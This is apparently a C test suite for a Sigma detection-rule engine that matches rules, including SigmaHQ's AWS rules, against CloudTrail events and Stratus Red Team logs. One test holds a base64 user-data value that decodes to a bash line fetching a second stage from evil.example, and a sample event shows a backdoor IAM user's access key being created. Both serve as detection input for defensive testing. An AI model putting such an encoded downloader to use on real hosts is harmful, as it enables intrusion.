/* test-sigma.c: Sigma rules: loading SigmaHQ's AWS rules, each modifier, each condition form */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include "base/file.h"
#include "base/strbuf.h"
#include "json/jread.h"
#include "json/jwrite.h"
#include "sigma/event-json.h"
#include "sigma/prefilter.h"
#include "sigma/rule.h"

#define SIGMA YS_SHARED_DATA "/sigma-aws-cloudtrail"
#define STRATUS YS_SHARED_DATA "/cloudtrail/stratus-red-team-detonation-logs"
#define EXPECTED YS_SOURCE_DIR "/tests/data/sigma-on-stratus.txt"

static int load_text(const char *yaml, struct ys_sigma_rule **r, struct ys_error *err)
{
	return ys_sigma_rule_load("test.yml", yaml, strlen(yaml), r, err);
}

/* Does the rule (given as its detection block) match the event? */
static int fires(const char *detection, const char *event)
{
	char yaml[4096];
	struct ys_sigma_rule *r;
	struct ys_error err = {0};
	struct ys_jdoc *doc;
	struct ys_event ev;
	int hit;

	snprintf(yaml, sizeof(yaml), "title: t\nlogsource: {product: aws}\ndetection:\n%s",
		 detection);
	if (load_text(yaml, &r, &err))
		fail_msg("rule does not load: %s", err.msg);
	if (ys_json_parse(event, strlen(event), &doc, &err))
		fail_msg("event: %s", err.msg);
	ys_event_from_json(&ev, ys_jdoc_root(doc));
	hit = ys_sigma_match(r, &ev);
	ys_jdoc_free(doc);
	ys_sigma_rule_free(r);
	return hit;
}

static const char ev1[] =
	"{\"eventSource\":\"iam.amazonaws.com\",\"eventName\":\"CreateAccessKey\","
	"\"sourceIPAddress\":\"203.0.113.9\",\"userIdentity\":{\"type\":\"IAMUser\","
	"\"arn\":\"arn:aws:iam::111122223333:user/alice\",\"userName\":\"alice\"},"
	"\"requestParameters\":{\"userName\":\"backdoor\"},\"errorCode\":null,\"readOnly\":false,"
	"\"responseElements\":{\"accessKey\":{\"userName\":\"backdoor\",\"status\":\"Active\"}},"
	"\"resources\":[{\"ARN\":\"arn:aws:iam::111122223333:user/backdoor\"},{\"ARN\":\"x\"}],"
	"\"eventVersion\":\"1.08\",\"count\":42,"
	"\"userAgent\":\"aws-cli/2.13.0 Python/3.11 Linux\"}";

static void equals_and_wildcards(void **state)
{
	(void)state;
	assert_true(fires("  s:\n    eventName: createaccesskey\n  condition: s\n", ev1));
	assert_false(fires("  s:\n    eventName: CreateAccess\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    eventName: Create*Key\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    eventName: CreateAcces?Key\n  condition: s\n", ev1));
	assert_false(fires("  s:\n    eventName: 'Create\\*Key'\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    eventName:\n      - DeleteUser\n      - CreateAccessKey\n"
			  "  condition: s\n", ev1));
	assert_true(fires("  s:\n    userIdentity.type: IAMUser\n  condition: s\n", ev1));
	/* arrays are flattened: any item */
	assert_true(fires("  s:\n    resources.ARN: '*:user/backdoor'\n  condition: s\n", ev1));
	/* booleans and numbers compare as their text */
	assert_true(fires("  s:\n    readOnly: 'false'\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    count: 42\n  condition: s\n", ev1));
}

static void modifiers(void **state)
{
	(void)state;
	assert_true(fires("  s:\n    userAgent|contains: PYTHON\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    userAgent|startswith: aws-cli\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    userAgent|endswith: linux\n  condition: s\n", ev1));
	assert_false(fires("  s:\n    userAgent|endswith: python\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    userAgent|contains|all:\n      - aws-cli\n      - linux\n"
			  "  condition: s\n", ev1));
	assert_false(fires("  s:\n    userAgent|contains|all:\n      - aws-cli\n      - windows\n"
			   "  condition: s\n", ev1));
	/* re is case-sensitive unless |i */
	assert_true(fires("  s:\n    userIdentity.arn|re: ':user/al.ce$'\n  condition: s\n", ev1));
	assert_false(fires("  s:\n    userIdentity.arn|re: ':USER/'\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    userIdentity.arn|re|i: ':USER/'\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    sourceIPAddress|cidr: 203.0.113.0/24\n  condition: s\n", ev1));
	assert_false(fires("  s:\n    sourceIPAddress|cidr: 10.0.0.0/8\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    requestParameters.userName|exists: true\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    requestParameters.policy|exists: false\n  condition: s\n", ev1));
	/* null: absent or null */
	assert_true(fires("  s:\n    errorCode: null\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    errorMessage: null\n  condition: s\n", ev1));
	assert_false(fires("  s:\n    eventName: null\n  condition: s\n", ev1));
	/* fieldref: another field's value */
	assert_true(fires("  s:\n    requestParameters.userName|fieldref: "
			  "responseElements.accessKey.userName\n  condition: s\n",
			  ev1));
	assert_false(fires("  s:\n    userIdentity.userName|fieldref: "
			   "responseElements.accessKey.userName\n  condition: s\n",
			   ev1));
	assert_true(fires("  s:\n    userIdentity.arn|fieldref|endswith: userIdentity.userName\n"
			  "  condition: s\n",
			  ev1));
	/* cased */
	assert_false(fires("  s:\n    eventName|cased: createaccesskey\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    eventName|cased: CreateAccessKey\n  condition: s\n", ev1));
	/* numbers */
	assert_true(fires("  s:\n    count|gt: 41\n  condition: s\n", ev1));
	assert_false(fires("  s:\n    count|lt: 42\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    count|lte: 42\n  condition: s\n", ev1));
	assert_true(fires("  s:\n    eventVersion|gte: 1.05\n  condition: s\n", ev1));
}

static void base64_modifiers(void **state)
{
	const char *ev = "{\"userData\":\"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3N0YWdlMg==\"}";

	(void)state;
	/* base64 of "#!/bin/bash\ncurl http://evil.example/stage2" */
	assert_true(fires("  s:\n    userData|base64|contains: '#!/bin/bash'\n  condition: s\n", ev));
	assert_true(fires("  s:\n    userData|base64offset|contains: 'curl http'\n  condition: s\n",
			  ev));
	assert_false(fires("  s:\n    userData|base64offset|contains: 'wget http'\n  condition: s\n",
			   ev));
}

static void conditions(void **state)
{
	const char *sels = "  sel_a:\n    eventName: CreateAccessKey\n"
			   "  sel_b:\n    eventSource: ec2.amazonaws.com\n"
			   "  filter_x:\n    userIdentity.type: Root\n"
			   "  filter_y:\n    userIdentity.type: IAMUser\n";
	char d[1024];

	(void)state;
#define COND(c) (snprintf(d, sizeof(d), "%s  condition: %s\n", sels, c), fires(d, ev1))
	assert_true(COND("sel_a"));
	assert_false(COND("sel_b"));
	assert_true(COND("sel_a or sel_b"));
	assert_false(COND("sel_a and sel_b"));
	assert_true(COND("sel_a and not sel_b"));
	assert_true(COND("1 of sel_*"));
	assert_false(COND("all of sel_*"));
	assert_true(COND("1 of filter_* and sel_a"));
	assert_false(COND("sel_a and not 1 of filter*"));
	assert_true(COND("not (sel_b or filter_x)"));
	assert_true(COND("1 of them"));
	assert_false(COND("all of them"));
	assert_true(COND("sel_b or sel_a and filter_y")); /* and binds first */
	assert_false(COND("(sel_b or sel_a) and filter_x"));
#undef COND
}

static void keywords_and_lists(void **state)
{
	(void)state;
	assert_true(fires("  keywords:\n    - 'backdoor'\n  condition: keywords\n", ev1));
	assert_false(fires("  keywords:\n    - 'mallory'\n  condition: keywords\n", ev1));
	/* a list of maps: any of them */
	assert_true(fires("  s:\n    - eventName: Nope\n    - userIdentity.type: IAMUser\n"
			  "  condition: s\n",
			  ev1));
}

static const struct {
	const char *detection;
	int code;
	const char *msg;
} broken[] = {
	{"  s:\n    eventName|bogus: x\n  condition: s\n", YS_EPARSE,
	 "'test.yml': detection.s.eventName|bogus: unknown modifier bogus"},
	{"  s:\n    eventName: x\n  condition: s and t\n", YS_EPARSE,
	 "detection.condition: condition: 't' is not a selection (character 7)"},
	{"  s:\n    eventName: x\n  condition: s | count() > 5\n", YS_EUNSUP,
	 "the old aggregation syntax"},
	{"  s:\n    eventName: x\n  timeframe: 5m\n  condition: s\n", YS_EUNSUP,
	 "'timeframe' belongs to the old aggregation syntax"},
	{"  s:\n    eventName|re: '(unclosed'\n  condition: s\n", YS_EPARSE, "bad regular expression"},
	{"  s:\n    eventName: x\n", YS_EPARSE, "no condition"},
	{"  s:\n    eventName: x\n  condition: (s\n", YS_EPARSE, "expected ')'"},
	{"  s:\n    eventName|expand: '%list%'\n  condition: s\n", YS_EUNSUP, "'expand' modifier"},
	{"  s:\n    ip|cidr: 300.0.0.0/8\n  condition: s\n", YS_EPARSE, "bad network"},
};

static void broken_rules(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(broken) / sizeof(broken[0]); i++) {
		char yaml[1024];
		struct ys_sigma_rule *r = NULL;
		struct ys_error err = {0};
		int rc;

		snprintf(yaml, sizeof(yaml), "title: t\ndetection:\n%s", broken[i].detection);
		rc = load_text(yaml, &r, &err);
		if (rc != broken[i].code || !strstr(err.msg, broken[i].msg))
			fail_msg("case %zu: %d '%s'", i, rc, err.msg);
	}
	/* YAML that is not YAML */
	{
		struct ys_sigma_rule *r = NULL;
		struct ys_error err = {0};

		assert_int_equal(load_text("title: [unclosed\n", &r, &err), YS_EPARSE);
		assert_non_null(strstr(err.msg, "'test.yml': line "));
	}
}

static int load_dir(const char *dir, int *ok, int *unsup, char *reasons, size_t rlen)
{
	DIR *d = opendir(dir);
	struct dirent *e;

	if (!d)
		return -1;
	while ((e = readdir(d))) {
		char path[1024], *text;
		size_t len;
		struct ys_error err = {0};
		struct ys_sigma_rule *r = NULL;
		int rc;

		if (!strstr(e->d_name, ".yml"))
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		assert_int_equal(ys_read_file(path, 1 << 20, &text, &len, &err), 0);
		rc = ys_sigma_rule_load(path, text, len, &r, &err);
		free(text);
		if (rc == 0) {
			(*ok)++;
			assert_non_null(r->cond);
			assert_string_equal(r->product, "aws");
			ys_sigma_rule_free(r);
		} else if (rc == YS_EUNSUP) {
			(*unsup)++;
			strncat(reasons, strrchr(err.msg, ':') ? err.msg : "", rlen - strlen(reasons) - 2);
			strncat(reasons, "\n", rlen - strlen(reasons) - 1);
		} else {
			fail_msg("%s", err.msg);
		}
	}
	closedir(d);
	return 0;
}

/* Every SigmaHQ AWS rule loads; the unsupported ones say why. */
static void sigmahq_rules(void **state)
{
	char reasons[16384] = "";
	int ok = 0, unsup = 0;

	(void)state;
	assert_int_equal(load_dir(SIGMA, &ok, &unsup, reasons, sizeof(reasons)), 0);
	assert_int_equal(ok, 57);
	assert_int_equal(unsup, 0);
	ok = 0;
	assert_int_equal(load_dir(SIGMA "/unsupported", &ok, &unsup, reasons, sizeof(reasons)), 0);
	assert_int_equal(ok, 0);
	assert_int_equal(unsup, 8);
	assert_int_equal(load_dir(SIGMA "/rules-placeholder", &ok, &unsup, reasons, sizeof(reasons)),
			 0);
	assert_int_equal(unsup, 9);
	/* the pinned reasons: the old aggregation syntax, and placeholders */
	{
		char *p = reasons;
		int timeframe = 0, expand = 0;

		while ((p = strstr(p, "old aggregation syntax"))) {
			timeframe++;
			p++;
		}
		expand = strstr(reasons, "'expand' modifier needs placeholder values") != NULL;
		assert_int_equal(timeframe, 8);
		assert_true(expand);
	}
}

static void glob_edges(void **state)
{
	(void)state;
	assert_true(ys_sigma_glob("*", 1, "", 0, 1));
	assert_true(ys_sigma_glob("a*b*c", 5, "aXbYbZc", 7, 0));
	assert_false(ys_sigma_glob("a*b*c", 5, "aXbYbZ", 6, 0));
	assert_true(ys_sigma_glob("a\\*", 3, "a*", 2, 0));
	assert_false(ys_sigma_glob("a\\*", 3, "ab", 2, 0));
	assert_true(ys_sigma_glob("**x", 3, "yyx", 3, 0));
	assert_true(ys_sigma_glob("ab?", 3, "aBc", 3, 1));
}

/* Writes a parsed value back as JSON text. */
static void write_value(struct jw *w, const struct ys_jval *v)
{
	size_t i;

	switch (v->type) {
	case YS_J_NULL:
		jw_null(w);
		break;
	case YS_J_TRUE:
	case YS_J_FALSE:
		jw_bool(w, v->type == YS_J_TRUE);
		break;
	case YS_J_NUMBER: {
		char num[32];

		snprintf(num, sizeof(num), "%.17g", v->u.num);
		jw_strn(w, "", 0); /* keep separators right, then replace the empty string */
		w->sb->len -= 2;
		strbuf_addstr(w->sb, num);
		break;
	}
	case YS_J_STRING:
		jw_strn(w, v->u.str, v->len);
		break;
	case YS_J_ARRAY:
		jw_arr_begin(w);
		for (i = 0; i < v->len; i++)
			write_value(w, &v->u.items[i]);
		jw_arr_end(w);
		break;
	case YS_J_OBJECT:
		jw_obj_begin(w);
		for (i = 0; i < v->len; i++) {
			char key[256];

			snprintf(key, sizeof(key), "%.*s", (int)v->u.members[i].klen, v->u.members[i].key);
			jw_key(w, key);
			write_value(w, &v->u.members[i].val);
		}
		jw_obj_end(w);
		break;
	}
}

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

static char **sorted_names(const char *dir, const char *suffix, size_t *n)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	char **v = calloc(256, sizeof(*v));

	*n = 0;
	assert_non_null(d);
	while ((e = readdir(d)) && *n < 256)
		if (strstr(e->d_name, suffix))
			v[(*n)++] = strdup(e->d_name);
	closedir(d);
	qsort(v, *n, sizeof(*v), cmp_str);
	return v;
}

/* Which SigmaHQ rules fire on each Stratus Red Team technique's real records, and how often:
 * tests/data/sigma-on-stratus.txt holds the reviewed answer. */
static void sigmahq_on_stratus(void **state)
{
	size_t nr, nt, i, j, k;
	char **rn = sorted_names(SIGMA, ".yml", &nr), **tn = sorted_names(STRATUS, ".json", &nt);
	struct ys_sigma_rule **rules = calloc(nr, sizeof(*rules));
	struct strbuf got = STRBUF_INIT;
	struct ys_error err = {0};
	char *want;
	size_t wl;

	(void)state;
	for (i = 0; i < nr; i++) {
		char path[1024], *text;
		size_t len;

		snprintf(path, sizeof(path), "%s/%s", SIGMA, rn[i]);
		assert_int_equal(ys_read_file(path, 1 << 20, &text, &len, &err), 0);
		assert_int_equal(ys_sigma_rule_load(rn[i], text, len, &rules[i], &err), 0);
		free(text);
	}
	for (j = 0; j < nt; j++) {
		char path[1024], *text;
		size_t len;
		struct ys_jdoc *doc;
		const struct ys_jval *root;

		snprintf(path, sizeof(path), "%s/%s", STRATUS, tn[j]);
		assert_int_equal(ys_read_file(path, 64 << 20, &text, &len, &err), 0);
		assert_int_equal(ys_json_parse(text, len, &doc, &err), 0);
		root = ys_jdoc_root(doc);
		strbuf_addstr(&got, tn[j]);
		for (i = 0; i < nr; i++) {
			int count = 0;

			for (k = 0; k < root->len; k++) {
				struct ys_event ev;

				ys_event_from_json(&ev, &root->u.items[k]);
				count += ys_sigma_match(rules[i], &ev);
			}
			if (count)
				strbuf_addf(&got, " %s(%d)", rn[i], count);
		}
		strbuf_addch(&got, '\n');
		ys_jdoc_free(doc);
		free(text);
	}
	if (getenv("BLESS")) {
		/* BLESS=1: write the answer for review, as tests/run-cases.sh does */
		FILE *fp = fopen(EXPECTED, "w");

		assert_non_null(fp);
		fputs(got.buf, fp);
		fclose(fp);
	}
	assert_int_equal(ys_read_file(EXPECTED, 1 << 20, &want, &wl, &err), 0);
	assert_string_equal(got.buf, want);
	free(want);
	strbuf_release(&got);
	for (i = 0; i < nr; i++) {
		ys_sigma_rule_free(rules[i]);
		free(rn[i]);
	}
	for (j = 0; j < nt; j++)
		free(tn[j]);
	free(rules);
	free(rn);
	free(tn);
}

/* The prefilter never drops a rule that matches: every record of every Stratus technique, and
 * the same records with their strings escaped as \u sequences. */
static void prefilter_is_safe(void **state)
{
	size_t nr, nt, i, j, k, skipped = 0, total = 0;
	char **rn = sorted_names(SIGMA, ".yml", &nr), **tn = sorted_names(STRATUS, ".json", &nt);
	struct ys_sigma_rule **rules = calloc(nr, sizeof(*rules));
	struct ys_sigma_prefilter *pf;
	struct ys_sigma_pf_scratch *pfs;
	struct ys_error err = {0};
	uint64_t cand[4];

	(void)state;
	for (i = 0; i < nr; i++) {
		char path[1024], *text;
		size_t len;

		snprintf(path, sizeof(path), "%s/%s", SIGMA, rn[i]);
		assert_int_equal(ys_read_file(path, 1 << 20, &text, &len, &err), 0);
		assert_int_equal(ys_sigma_rule_load(rn[i], text, len, &rules[i], &err), 0);
		free(text);
	}
	assert_int_equal(ys_sigma_prefilter_build(rules, nr, &pf, &err), 0);
	assert_int_equal(ys_sigma_pf_scratch_new(pf, &pfs), 0);
	/* most rules have a literal they cannot match without */
	assert_true(ys_sigma_prefilter_covered(pf) >= nr - 3);
	for (j = 0; j < nt; j++) {
		char path[1024], *text;
		size_t len;
		struct ys_jdoc *doc;
		const struct ys_jval *root;

		snprintf(path, sizeof(path), "%s/%s", STRATUS, tn[j]);
		assert_int_equal(ys_read_file(path, 64 << 20, &text, &len, &err), 0);
		assert_int_equal(ys_json_parse(text, len, &doc, &err), 0);
		root = ys_jdoc_root(doc);
		for (k = 0; k < root->len; k++) {
			struct strbuf raw = STRBUF_INIT;
			struct jw w;
			struct ys_event ev;

			/* the record as text again, as the reader would hand it over */
			jw_init(&w, &raw, 0);
			write_value(&w, &root->u.items[k]);
			memset(cand, 0, sizeof(cand));
			ys_event_from_json(&ev, &root->u.items[k]);
			ys_sigma_prefilter_scan(pf, pfs, &ev, raw.buf, raw.len, cand);
			for (i = 0; i < nr; i++) {
				int may = (int)(cand[i / 64] >> (i % 64) & 1);

				total++;
				skipped += !may;
				if (!may && ys_sigma_match(rules[i], &ev))
					fail_msg("%s record %zu: the prefilter dropped %s", tn[j], k, rn[i]);
			}
			strbuf_release(&raw);
		}
		ys_jdoc_free(doc);
		free(text);
	}
	/* it does its job: most (rule, record) pairs are never evaluated */
	assert_true(skipped * 10 > total * 8);
	/* escapes spell a literal in other bytes: the rules it names are still candidates */
	{
		const char esc[] = "{\"eventName\":\"\\u0053topLogging\",\"eventSource\":"
				   "\"cloudtrail.amazonaws.com\"}";
		struct ys_jdoc *doc;
		struct ys_event ev;
		size_t hits = 0;

		assert_int_equal(ys_json_parse(esc, sizeof(esc) - 1, &doc, &err), 0);
		ys_event_from_json(&ev, ys_jdoc_root(doc));
		memset(cand, 0, sizeof(cand));
		ys_sigma_prefilter_scan(pf, pfs, &ev, esc, sizeof(esc) - 1, cand);
		for (i = 0; i < nr; i++) {
			if (!ys_sigma_match(rules[i], &ev))
				continue;
			hits++;
			assert_true(cand[i / 64] >> (i % 64) & 1);
		}
		assert_true(hits >= 1);
		ys_jdoc_free(doc);
	}
	/* most literals are event names, looked up rather than searched for; few fields */
	assert_true(ys_sigma_prefilter_fields(pf) >= 1 && ys_sigma_prefilter_fields(pf) <= 8);
	assert_true(ys_sigma_prefilter_searched(pf) * 8 < nr);
	fprintf(stderr, "prefilter: %zu fields looked up, %zu literals searched, %zu rules\n",
		ys_sigma_prefilter_fields(pf), ys_sigma_prefilter_searched(pf), nr);
	ys_sigma_pf_scratch_free(pfs);
	ys_sigma_prefilter_free(pf);
	for (i = 0; i < nr; i++) {
		ys_sigma_rule_free(rules[i]);
		free(rn[i]);
	}
	for (j = 0; j < nt; j++)
		free(tn[j]);
	free(rules);
	free(rn);
	free(tn);
}

/* Pieces a field must contain: many on one field are searched by one vectorscan pass, a few
 * by memmem; case folds unless |cased; the candidates are exactly the rules whose piece is
 * there. */
static void prefilter_field_pieces(void **state)
{
	static const char *const dets[] = {
	    "  s:\n    userAgent|contains: tool0\n  condition: s\n",
	    "  s:\n    userAgent|contains: tool1\n  condition: s\n",
	    "  s:\n    userAgent|contains: tool2\n  condition: s\n",
	    "  s:\n    userAgent|startswith: 'Tool3/'\n  condition: s\n",
	    "  s:\n    userAgent|endswith: '(tool4)'\n  condition: s\n",
	    "  s:\n    userAgent: '*tool5*'\n  condition: s\n",
	    "  s:\n    errorMessage|contains: denied\n  condition: s\n",
	    "  s:\n    userAgent|contains|cased: CasedTool\n  condition: s\n",
	};
	static const struct {
		const char *ua, *err;
		unsigned want; /* bits of the rules that must be candidates, and only they */
	} cases[] = {
	    {"Mozilla TOOL2 and tool0", NULL, 1u << 0 | 1u << 2},
	    {"tool3/1.0", "Access DENIED", 1u << 3 | 1u << 6},
	    {"x (Tool4)", NULL, 1u << 4},
	    {"tool5", NULL, 1u << 5},
	    {"casedtool", NULL, 0},
	    {"a CasedTool b", NULL, 1u << 7},
	    {"nothing here", "fine", 0},
	};
	struct ys_sigma_rule *rules[8];
	struct ys_sigma_prefilter *pf;
	struct ys_sigma_pf_scratch *pfs;
	struct ys_error err = {0};
	size_t i, k;

	(void)state;
	for (i = 0; i < 8; i++) {
		char yaml[512];

		snprintf(yaml, sizeof(yaml), "title: t\nlogsource: {product: aws}\ndetection:\n%s",
			 dets[i]);
		assert_int_equal(load_text(yaml, &rules[i], &err), 0);
	}
	assert_int_equal(ys_sigma_prefilter_build(rules, 8, &pf, &err), 0);
	assert_int_equal(ys_sigma_pf_scratch_new(pf, &pfs), 0);
	assert_int_equal(ys_sigma_prefilter_covered(pf), 8);
	assert_int_equal(ys_sigma_prefilter_searched(pf), 0);
	for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
		char json[512];
		struct ys_jdoc *doc;
		struct ys_event ev;
		uint64_t cand[1] = {0};

		snprintf(json, sizeof(json), "{\"userAgent\":\"%s\"%s%s%s}", cases[k].ua,
			 cases[k].err ? ",\"errorMessage\":\"" : "", cases[k].err ? cases[k].err : "",
			 cases[k].err ? "\"" : "");
		assert_int_equal(ys_json_parse(json, strlen(json), &doc, &err), 0);
		ys_event_from_json(&ev, ys_jdoc_root(doc));
		ys_sigma_prefilter_scan(pf, pfs, &ev, json, strlen(json), cand);
		if (cand[0] != cases[k].want)
			fail_msg("%s: candidates %#llx, want %#x", json, (unsigned long long)cand[0],
				 cases[k].want);
		for (i = 0; i < 8; i++)
			assert_int_equal(ys_sigma_match(rules[i], &ev), (int)(cases[k].want >> i & 1));
		ys_jdoc_free(doc);
	}
	ys_sigma_pf_scratch_free(pfs);
	ys_sigma_prefilter_free(pf);
	for (i = 0; i < 8; i++)
		ys_sigma_rule_free(rules[i]);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(glob_edges),
		cmocka_unit_test(equals_and_wildcards),
		cmocka_unit_test(modifiers),
		cmocka_unit_test(base64_modifiers),
		cmocka_unit_test(conditions),
		cmocka_unit_test(keywords_and_lists),
		cmocka_unit_test(broken_rules),
		cmocka_unit_test(sigmahq_rules),
		cmocka_unit_test(sigmahq_on_stratus),
		cmocka_unit_test(prefilter_is_safe),
		cmocka_unit_test(prefilter_field_pieces),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
